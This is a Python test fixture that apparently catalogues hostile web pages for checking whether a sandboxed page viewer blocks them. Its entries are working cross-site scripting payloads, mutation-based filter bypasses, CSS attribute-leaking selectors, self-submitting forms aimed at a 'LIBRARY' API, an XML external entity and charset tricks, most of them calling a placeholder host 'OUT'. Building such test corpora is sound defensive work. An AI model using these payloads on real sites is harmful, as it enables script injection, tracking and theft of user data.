"""Pages that want to run, to phone home, to lead away or to reach the library.

`OUT` stands for where they phone, `LIBRARY` for the library; each that still works in a browser of today reaches one
of them when nothing holds it.
"""

import base64
from dataclasses import dataclass

HTML = "text/html; charset=utf-8"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
CALL = "new Image().src='http://OUT/ran'; document.title='ran'"
PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="


@dataclass(frozen=True)
class Hostile:
    """One such page."""

    name: str
    body: str | bytes
    media_type: str = HTML
    headers: tuple[str, ...] = ()
    """Further lines of its head."""
    works: bool = True
    """Whether a browser of today does as it is told, where nothing holds it."""
    pressed: bool = False
    """Whether somebody presses on what is called `press` in it."""
    aims: str = "out"
    """What it reaches where nothing holds it: out, the library, or a dialog."""
    file: bool = False
    """Whether it is no page to Atlas, and only to be saved."""


def page(inside: str, head: str = "") -> str:
    return f"<!doctype html><html><head><title>quiet</title>{head}</head><body>{inside}</body></html>"


def packed(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


ROWS = (
    # It runs.
    Hostile("script", page(f"<script>{CALL}</script>")),
    Hostile("script from elsewhere", page("", "<script src=//OUT/x.js></script>")),
    Hostile("module script", page(f"<script type=module>{CALL}</script>")),
    Hostile("module from elsewhere", page("<script type=module>import 'http://OUT/x.mjs'</script>")),
    Hostile(
        "import map",
        page(
            '<script type=importmap>{"imports": {"x": "http://OUT/x.mjs"}}</script><script type=module>import "x"</script>'
        ),
    ),
    Hostile("image that fails", page(f'<img src=x: onerror="{CALL}">')),
    Hostile("body's load", f'<!doctype html><title>quiet</title><body onload="{CALL}">x'),
    Hostile("focus by itself", page(f'<input autofocus onfocus="{CALL}">')),
    Hostile("details that open", page(f'<details open ontoggle="{CALL}"><summary>x</summary>y</details>')),
    Hostile(
        "animation's start",
        page(
            f'<style>@keyframes k{{from{{left:0}}to{{left:1px}}}}</style><p style="animation:k 1s" onanimationstart="{CALL}">x'
        ),
    ),
    Hostile("javascript: link", page(f'<a id=press href="javascript:{CALL}">press</a>'), pressed=True),
    Hostile("javascript: frame", page(f'<iframe src="javascript:{CALL.replace("document", "parent.document")}"></iframe>')),
    Hostile("javascript: form", page(f'<form action="javascript:{CALL}"><button id=press>press</button></form>'), pressed=True),
    Hostile("frame with a page in it", page("<iframe srcdoc='<script>new Image().src=\"http://OUT/ran\"</script>'></iframe>")),
    Hostile("data: frame", page(f"<iframe src='data:text/html;base64,{packed('<img src=http://OUT/data>')}'></iframe>")),
    Hostile("data: object", page(f"<object data='data:text/html;base64,{packed('<img src=http://OUT/data>')}'></object>")),
    Hostile("dialog", page("<script>alert('ran')</script>"), aims="dialog"),
    Hostile("question at leaving", page("<script>confirm('ran')</script>"), aims="dialog"),
    Hostile("popup", page(f"<script>window.open('http://OUT/popup')</script><img src=x: onerror=\"{CALL}\">")),
    Hostile("popup at a press", page('<button id=press onclick="window.open(\'http://OUT/popup\')">press</button>'), pressed=True),
    Hostile("opener", page(f"<script>try {{ (opener||parent).location='http://OUT/opener' }} catch(e) {{}} {CALL}</script>")),
    Hostile("worker", page('<script>new Worker(URL.createObjectURL(new Blob(["fetch(\'http://OUT/worker\')"])))</script>')),
    Hostile(
        "shared worker",
        page('<script>new SharedWorker(URL.createObjectURL(new Blob(["fetch(\'http://OUT/worker\')"])))</script>'),
    ),
    Hostile(
        "service worker",
        page(f"<script>navigator.serviceWorker.register('/sw.js').catch(() => 0).then(() => {{ {CALL} }})</script>"),
    ),
    Hostile(
        "custom element",
        page(f"<x-y></x-y><script>customElements.define('x-y', class extends HTMLElement {{ constructor() {{ super(); {CALL} }} }})</script>"),
    ),
    Hostile("script behind a mutation", page(f'<noscript><p title="</noscript><img src=x: onerror={CALL.replace("; ", ";")}>"></noscript>')),
    Hostile("math and a mutation", page(f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={CALL.replace("; ", ";")}&gt;"></table></math>'), works=False),
    Hostile("template", page("<template shadowrootmode=open><img src=http://OUT/shadow></template>", ""), works=False),
    Hostile("shadow root", page("<div><template shadowrootmode=open><img src=http://OUT/shadow></template></div>")),
    # It asks for things.
    Hostile("fetch", page("<script>fetch('http://OUT/fetch', {mode: 'no-cors'})</script>")),
    Hostile("beacon", page("<script>navigator.sendBeacon('http://OUT/beacon', 'x')</script>")),
    Hostile("beacon at leaving", page("<script>addEventListener('load', () => navigator.sendBeacon('http://OUT/beacon'))</script>")),
    Hostile("web socket", page("<script>new WebSocket('ws://OUT/socket')</script>")),
    Hostile("event source", page("<script>new EventSource('http://OUT/events')</script>")),
    Hostile("picture", page("<img src=http://OUT/x.png>")),
    Hostile("picture of many", page("<picture><source srcset='http://OUT/a.png 1x, http://OUT/b.png 2x'><img src=data:,></picture>")),
    Hostile("set of sources", page(f"<img src='{PIXEL}' srcset='http://OUT/a.png 1x'>")),
    Hostile("background attribute", "<!doctype html><title>quiet</title><body background=http://OUT/x.png>x"),
    Hostile("input picture", page("<input type=image src=http://OUT/x.png>")),
    Hostile("video", page("<video autoplay muted src=http://OUT/x.mp4></video>")),
    Hostile("poster", page("<video poster=http://OUT/x.png></video>")),
    Hostile("audio", page("<audio preload=auto src=http://OUT/x.mp3></audio>")),
    Hostile("track", page("<video autoplay muted src=http://OUT/x.mp4><track default src=http://OUT/x.vtt></video>")),
    Hostile("frame", page("<iframe src=http://OUT/frame></iframe>")),
    Hostile("frameset", "<!doctype html><title>quiet</title><frameset cols=*><frame src=http://OUT/frame></frameset>"),
    Hostile("object", page("<object data=http://OUT/x.html type=text/html></object>")),
    Hostile("embed", page("<embed src=http://OUT/x.html type=text/html>")),
    Hostile("portal", page("<portal src=http://OUT/portal></portal>"), works=False),
    Hostile("fenced frame", page("<fencedframe></fencedframe><script>try { document.querySelector('fencedframe').config = new FencedFrameConfig('http://OUT/f') } catch (e) {}</script>"), works=False),
    Hostile("drawn picture", page(f"{SVG}<image href='http://OUT/x.png' width=9 height=9 /></svg>")),
    Hostile("drawn reference", page(f"{SVG}<use href='http://OUT/x.svg#a' /></svg>"), works=False),
    Hostile("drawn page", page(f"{SVG}<foreignObject width=9 height=9><iframe src=http://OUT/f></iframe></foreignObject></svg>")),
    Hostile("formula that is a link", page('<math href="http://OUT/m"><mtext id=press>press</mtext></math>'), pressed=True, works=False),
    # Styles.
    Hostile("style sheet", page("", "<link rel=stylesheet href=http://OUT/x.css>")),
    Hostile("imported style", page("<style>@import 'http://OUT/x.css';</style>")),
    Hostile("imported style in disguise", page(r"<style>@\69mport url(http://OUT/x.css);</style>")),
    Hostile("background", page("<style>body { background: url(http://OUT/x.png) }</style>x")),
    Hostile("background in disguise", page(r"<style>body { background: \75rl(http://OUT/x.png) }</style>x")),
    Hostile("background of one element", page("<p style=\"background: url('http://OUT/x.png')\">x")),
    Hostile("set of pictures", page("<style>body { background: image-set('http://OUT/x.png' 1x) }</style>x")),
    Hostile("font", page("<style>@font-face { font-family: f; src: url(http://OUT/f.woff2) } body { font-family: f }</style>x")),
    Hostile("cursor", page("<style>body { cursor: url(http://OUT/x.cur), auto; height: 300px }</style><p id=press>press"), pressed=True),
    Hostile("content", page("<style>body::before { content: url(http://OUT/x.png) }</style>x")),
    Hostile("list mark", page("<ul style='list-style: url(http://OUT/x.png)'><li>x</ul>")),
    Hostile("mask", page("<p style='mask: url(http://OUT/x.svg); width: 9px'>x")),
    Hostile("attribute told by style", page('<style>input[value^="s"] { background: url(http://OUT/s) }</style><input value=secret><p class=s>x')),
    Hostile("variable of a style", page("<style>:root { --u: url(http://OUT/x.png) } body { background: var(--u) }</style>x")),
    # What is looked up, or fetched beforehand.
    Hostile("preconnect", page("x", "<link rel=preconnect href=http://OUT/>")),
    Hostile("prefetch", page("x", "<link rel=prefetch href=http://OUT/x>")),
    Hostile("preload", page("x", "<link rel=preload as=image href=http://OUT/x.png>")),
    Hostile("module preload", page("x", "<link rel=modulepreload href=http://OUT/x.mjs>")),
    Hostile("looked up beforehand", page("x", "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=http://OUT/>"), works=False),
    Hostile("speculation", page('<script type=speculationrules>{"prefetch": [{"urls": ["http://OUT/s"], "eagerness": "immediate"}]}</script>'), works=False),
    Hostile("prerender", page("x", "<link rel=prerender href=http://OUT/x>"), works=False),
    Hostile("manifest", page("x", "<link rel=manifest href=http://OUT/m.json>"), works=False),
    Hostile("icon", page("x", "<link rel=icon href=http://OUT/i.ico>"), works=False),
    # It leads away.
    Hostile("refresh", page("x", '<meta http-equiv=refresh content="0; url=http://OUT/refresh">')),
    Hostile("refresh in the text", page('<p>x</p><meta http-equiv="Refresh" content="0;http://OUT/refresh">')),
    Hostile("refresh behind a mutation", page('<svg><style><meta http-equiv=refresh content="0;url=http://OUT/r"></style></svg>')),
    Hostile("base", page("<a id=press href=x>press</a>", "<base href=http://OUT/ target=_top>"), pressed=True),
    Hostile("link", page("<a id=press href=http://OUT/x>press</a>"), pressed=True),
    Hostile("link of the whole window", page("<a id=press href=http://OUT/x target=_top>press</a>"), pressed=True),
    Hostile("link to a new window", page("<a id=press href=http://OUT/x target=_blank>press</a>"), pressed=True),
    Hostile("link that pings", page("<a id=press href='#x' ping=http://OUT/ping>press</a>"), pressed=True, works=False),
    Hostile("map", page(f"<img usemap='#m' src='{PIXEL}' width=90 height=90 id=press><map name=m><area shape=default href=http://OUT/x></map>"), pressed=True),
    Hostile("form", page("<form action=http://OUT/form><input name=q value=x><button id=press>press</button></form>"), pressed=True),
    Hostile("form that sends itself", page("<form action=http://OUT/form method=post></form><script>document.forms[0].submit()</script>")),
    Hostile("moved on", page("<script>location = 'http://OUT/x'</script>")),
    Hostile("whole window moved on", page("<script>top.location = 'http://OUT/x'</script>")),
    # It reaches for the library.
    Hostile("asks the library", page("<script>fetch('LIBRARY/api/queue', {credentials: 'include', mode: 'no-cors'})</script>"), aims="library"),
    Hostile("picture of the library's", page("<img src='LIBRARY/api/queue'>"), aims="library"),
    Hostile("frame of the library's", page("<iframe src='LIBRARY/api/queue'></iframe>"), aims="library"),
    Hostile(
        "form to the library",
        page("<form action='LIBRARY/api/drops' method=post enctype=text/plain><input name=x><button id=press>press</button></form>"),
        pressed=True,
        aims="library",
    ),
    # It is not what it says, or says it in its head.
    Hostile("refresh in the head", page("x"), headers=("Refresh: 0; url=http://OUT/refresh",)),
    Hostile("links in the head", page("x"), headers=("Link: <http://OUT/x.css>; rel=stylesheet, <http://OUT/x.png>; rel=preload; as=image",)),
    Hostile("report in the head", page("<img src=http://OUT/x>"), headers=('Reporting-Endpoints: x="http://OUT/report"', "Content-Security-Policy: default-src * 'unsafe-inline'; report-uri http://OUT/report")),
    Hostile("page that calls itself text", page(f"<script>{CALL}</script>"), "text/plain", works=False),
    Hostile("page that calls itself a picture", page(f"<script>{CALL}</script>"), "image/png", works=False),
    Hostile("page that says nothing", page(f"<script>{CALL}</script>"), ""),
    Hostile("page in UTF-7", page("+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-"), "text/html; charset=utf-7", works=False),
    Hostile("page in UTF-16", page(f"<script>{CALL}</script>").encode("utf-16"), "text/html"),
    Hostile("page in another script's bytes", page(f"<script>{CALL}</script>").encode(), "text/html; charset=iso-2022-jp"),
    Hostile("page of XML", f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head><body><script>{CALL}</script></body></html>', "application/xhtml+xml"),
    Hostile("XML that is a page", f'<x><script xmlns="http://www.w3.org/1999/xhtml">{CALL}</script></x>', "application/xml"),
    Hostile("XML with a style", '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="http://OUT/x.css"?><x>x</x>', "text/xml"),
    Hostile("XML that is transformed", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://OUT/x.xsl"?><x/>', "text/xml", works=False),
    Hostile("XML with an entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "http://OUT/e">]><x>&e;</x>', "text/xml", works=False),
    Hostile("drawing that runs", f"{SVG}<script>new Image().src='http://OUT/svg'</script></svg>", "image/svg+xml"),
    Hostile("drawing with a page in it", f'{SVG}<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://OUT/f"/></foreignObject></svg>', "image/svg+xml"),
    Hostile("drawing that asks", f"{SVG}<image xlink:href='http://OUT/x.png' width='9' height='9'/></svg>", "image/svg+xml"),
    Hostile("drawing that leads away", f'{SVG}<foreignObject width="9" height="9"><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=http://OUT/r"/></foreignObject></svg>', "image/svg+xml"),
    Hostile("drawing within a page", page(f"<img src='data:image/svg+xml;base64,{packed(SVG + '<script>fetch(`http://OUT/x`)</script><image href=`http://OUT/x.png`/></svg>')}'>"), works=False),
    Hostile("parts that replace each other", b"--b\r\nContent-Type: text/html\r\n\r\n" + page(f"<script>{CALL}</script>").encode() + b"\r\n--b--", "multipart/x-mixed-replace; boundary=b", works=False, file=True),
)  # fmt: skip
